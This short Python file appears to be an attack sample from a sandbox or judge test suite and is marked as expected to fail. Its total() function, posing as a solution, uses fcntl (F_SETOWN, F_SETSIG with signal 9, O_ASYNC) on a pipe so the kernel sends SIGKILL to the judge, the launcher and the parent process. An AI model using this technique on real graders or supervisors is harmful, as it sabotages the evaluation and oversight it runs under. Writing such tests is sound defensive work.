# attack: has the kernel send the judge a signal when its own socket can be read
# expects: failed

import ctypes
libc = ctypes.CDLL(None, use_errno=True)

def total(numbers, known):
    import fcntl, os, socket
    ours, theirs = os.pipe()
    for pid in (known['judge'], known['launcher'], libc.getppid()):
        try:
            fcntl.fcntl(ours, fcntl.F_SETOWN, pid)
            fcntl.fcntl(ours, 10, 9)
            fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            os.write(theirs, b'x')
        except OSError: pass
    return 0
